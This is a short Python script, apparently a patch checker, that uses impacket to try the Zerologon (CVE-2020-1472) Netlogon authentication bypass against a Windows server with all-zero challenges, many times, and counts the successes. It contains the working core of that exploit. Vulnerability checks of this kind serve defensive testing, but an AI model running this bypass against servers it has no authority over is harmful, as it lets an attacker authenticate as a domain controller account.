#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Try to sign in as a machine account with a challenge and an answer of zeros (CVE-2020-1472), many times.

usage: netlogon_zero.py SERVER ADDRESS TRIES   A mended server refuses each of them.
"""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport


def main():
    server, address, tries = sys.argv[1], sys.argv[2], int(sys.argv[3])
    where = epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    rpc = transport.DCERPCTransportFactory(where).get_dce_rpc()
    rpc.connect()
    rpc.bind(nrpc.MSRPC_UUID_NRPC)
    opened = 0
    for _ in range(tries):
        nrpc.hNetrServerReqChallenge(rpc, server + "\0", server + "\0", b"\0" * 8)
        try:
            nrpc.hNetrServerAuthenticate3(
                rpc, server + "\0", server + "$\0",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                server + "\0", b"\0" * 8, 0x212FFFFF)
            opened += 1
        except nrpc.DCERPCSessionError:
            pass
    print(f"{tries} tries, {opened} opened")


main()
